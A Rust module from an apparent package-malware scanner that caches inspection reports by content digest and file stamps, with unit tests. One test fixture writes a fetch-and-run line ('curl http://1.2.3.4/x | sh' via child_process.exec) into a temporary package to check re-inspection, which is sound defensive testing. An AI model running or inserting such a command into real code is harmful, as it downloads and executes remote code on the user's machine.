//! Results cached by content hash (issue 7: "results are cached by content hash, so a
//! re-scan reads only what changed"). A report is stored under the package's
//! [`crate::package_digest`] plus the rule-set version, so changed rules re-inspect
//! everything. The store is a directory of JSON files the caller chooses.
//!
//! Installed packages have a second, cheaper key: the [`crate::input::Listing`]'s stamps
//! (paths, sizes, modification and change times, inodes). When the stamps of every file are
//! what they were, the report is taken without reading a single file; when they differ the
//! files are read and the content digest still finds a report for content seen before.

use std::path::{Path, PathBuf};

use crate::input::{list_dir, read_listing};
use crate::{InspectError, Limits, Options, PackageFiles, PackageReport, Report};

/// Bumped whenever rules or scoring change, so cached verdicts are never stale.
pub const RULES_VERSION: &str = "inspect-rules-2";

/// A directory of cached package reports.
#[derive(Debug, Clone)]
pub struct DigestCache {
    dir: PathBuf,
}

impl DigestCache {
    /// A cache in `dir` (created on first write).
    pub fn new(dir: impl Into<PathBuf>) -> Self {
        DigestCache { dir: dir.into() }
    }

    fn entry(&self, digest: &str) -> PathBuf {
        self.dir.join(format!("{RULES_VERSION}-{digest}.json"))
    }

    /// The cached report for a digest, if any (an unreadable entry is a miss).
    pub fn get(&self, digest: &str) -> Option<PackageReport> {
        let text = std::fs::read_to_string(self.entry(digest)).ok()?;
        serde_json::from_str(&text).ok()
    }

    /// Stores a report under its digest.
    pub fn put(&self, report: &PackageReport) -> Result<(), InspectError> {
        let io = |source| InspectError::Io {
            path: self.dir.clone(),
            source,
        };
        std::fs::create_dir_all(&self.dir).map_err(io)?;
        let path = self.entry(&report.digest);
        let tmp = path.with_extension("json.tmp");
        let text = serde_json::to_string(report).expect("reports serialize");
        std::fs::write(&tmp, text).map_err(io)?;
        std::fs::rename(&tmp, &path).map_err(io)
    }

    fn stamp_entry(&self, stamps: &str) -> PathBuf {
        self.dir.join(format!("stamps-{stamps}"))
    }

    /// The content digest last seen for a listing's stamps, if any.
    pub fn digest_for_stamps(&self, stamps: &str) -> Option<String> {
        let text = std::fs::read_to_string(self.stamp_entry(stamps)).ok()?;
        let digest = text.trim();
        (digest.len() == 64 && digest.bytes().all(|b| b.is_ascii_hexdigit()))
            .then(|| digest.to_string())
    }

    /// Remembers the content digest of a listing's stamps.
    pub fn put_stamps(&self, stamps: &str, digest: &str) -> Result<(), InspectError> {
        let io = |source| InspectError::Io {
            path: self.dir.clone(),
            source,
        };
        std::fs::create_dir_all(&self.dir).map_err(io)?;
        let path = self.stamp_entry(stamps);
        let tmp = path.with_extension("tmp");
        std::fs::write(&tmp, digest).map_err(io)?;
        std::fs::rename(&tmp, &path).map_err(io)
    }

    /// The directory.
    pub fn dir(&self) -> &Path {
        &self.dir
    }
}

/// Inspects a package unless the cache holds a report for the same content; returns the
/// report and whether it came from the cache. The report's `path` is the current one.
pub fn inspect_files_cached(
    package: &PackageFiles,
    limits: &Limits,
    cache: &DigestCache,
) -> Result<(PackageReport, bool), InspectError> {
    let digest = crate::package_digest(package);
    if let Some(mut hit) = cache.get(&digest) {
        hit.path = package.origin.clone();
        return Ok((hit, true));
    }
    let report = crate::inspect_files(package, limits);
    cache.put(&report)?;
    Ok((report, false))
}

/// The outcome of [`inspect_dir_cached`].
#[derive(Debug, Clone)]
pub struct CachedInspection {
    /// The package and the problems met while listing or reading it.
    pub report: Report,
    /// Whether the package report came from the cache.
    pub from_cache: bool,
    /// Files read from disk.
    pub files_read: usize,
    /// Files not read because the cache already knew them unchanged.
    pub files_cached: usize,
    /// Why the cache could not be written, when it could not (the report is still good).
    pub cache_warning: Option<String>,
}

/// Inspects a directory or installed distribution (as [`crate::inspect_path`] does),
/// reading only when something changed: unchanged stamps give the cached report with no
/// file read; changed stamps read the files, and unchanged content still hits by digest.
/// Without a cache every file is read and inspected. A package whose listing or reading
/// had problems is not remembered by its stamps, so the problem is met again next time.
pub fn inspect_dir_cached(
    path: &Path,
    options: &Options,
    cache: Option<&DigestCache>,
) -> Result<CachedInspection, InspectError> {
    // Step 1: list without reading, and try the stamps.
    let Some(listing) = list_dir(path, &options.limits)? else {
        let report = crate::inspect_path(path, options)?;
        let files_read = report.packages.iter().map(|p| p.files_analyzed).sum();
        return Ok(CachedInspection {
            report,
            from_cache: false,
            files_read,
            files_cached: 0,
            cache_warning: None,
        });
    };
    let stamps = listing.stamp_digest();
    if let Some(cache) = cache {
        let hit = cache
            .digest_for_stamps(&stamps)
            .and_then(|digest| cache.get(&digest));
        if let Some(mut hit) = hit {
            hit.path = listing.origin.clone();
            return Ok(CachedInspection {
                report: Report {
                    packages: vec![hit],
                    errors: listing.problems,
                },
                from_cache: true,
                files_read: 0,
                files_cached: listing.candidates.len(),
                cache_warning: None,
            });
        }
    }

    // Step 2: read, then the content digest or a fresh inspection.
    let package = read_listing(listing, &options.limits);
    let files_read = package.files.len();
    let (report, from_cache, mut cache_warning) = match cache {
        Some(cache) => match inspect_files_cached(&package, &options.limits, cache) {
            Ok((report, hit)) => (report, hit, None),
            Err(err) => (
                crate::inspect_files(&package, &options.limits),
                false,
                Some(err.to_string()),
            ),
        },
        None => (crate::inspect_files(&package, &options.limits), false, None),
    };
    if let Some(cache) = cache {
        if package.problems.is_empty() && cache_warning.is_none() {
            if let Err(err) = cache.put_stamps(&stamps, &report.digest) {
                cache_warning = Some(err.to_string());
            }
        }
    }
    Ok(CachedInspection {
        report: Report {
            packages: vec![report],
            errors: package.problems,
        },
        from_cache,
        files_read,
        files_cached: 0,
        cache_warning,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::SourceFile;

    #[test]
    fn second_inspection_of_unchanged_content_is_a_cache_hit_and_a_change_is_a_miss() {
        let dir = tempfile::tempdir().unwrap();
        let cache = DigestCache::new(dir.path().join("cache"));
        let mut package = PackageFiles {
            origin: "site-packages/demo-1.0.dist-info".into(),
            stem: "demo".into(),
            files: vec![SourceFile {
                path: "demo/__init__.py".into(),
                bytes: b"import os\n".to_vec(),
                full_size: 10,
            }],
            ..PackageFiles::default()
        };
        let limits = Limits::default();
        let (first, hit) = inspect_files_cached(&package, &limits, &cache).unwrap();
        assert!(!hit);
        let (second, hit) = inspect_files_cached(&package, &limits, &cache).unwrap();
        assert!(hit);
        assert_eq!(first, second);

        package.files[0].bytes = b"import os, socket\n".to_vec();
        let (_, hit) = inspect_files_cached(&package, &limits, &cache).unwrap();
        assert!(!hit);
    }

    #[test]
    fn unchanged_directory_is_answered_from_stamps_without_reading_and_a_write_is_seen() {
        let dir = tempfile::tempdir().unwrap();
        let cache = DigestCache::new(dir.path().join("cache"));
        let pkg = dir.path().join("node_modules/demo");
        std::fs::create_dir_all(&pkg).unwrap();
        std::fs::write(
            pkg.join("package.json"),
            r#"{"name":"demo","version":"1.0.0"}"#,
        )
        .unwrap();
        std::fs::write(pkg.join("index.js"), "module.exports = 1;\n").unwrap();
        let options = Options::default();

        let first = inspect_dir_cached(&pkg, &options, Some(&cache)).unwrap();
        assert!(!first.from_cache);
        assert_eq!((first.files_read, first.files_cached), (2, 0));

        let second = inspect_dir_cached(&pkg, &options, Some(&cache)).unwrap();
        assert!(second.from_cache);
        assert_eq!((second.files_read, second.files_cached), (0, 2));
        assert_eq!(first.report.packages, second.report.packages);

        // A write changes the stamps: the files are read again and the new code judged.
        std::fs::write(
            pkg.join("index.js"),
            "require('child_process').exec('curl http://1.2.3.4/x | sh');\n",
        )
        .unwrap();
        let third = inspect_dir_cached(&pkg, &options, Some(&cache)).unwrap();
        assert!(!third.from_cache);
        assert_eq!(third.files_read, 2);
        assert_ne!(
            third.report.packages[0].digest,
            first.report.packages[0].digest
        );

        let uncached = inspect_dir_cached(&pkg, &options, None).unwrap();
        assert_eq!(uncached.report.packages, third.report.packages);
    }
}
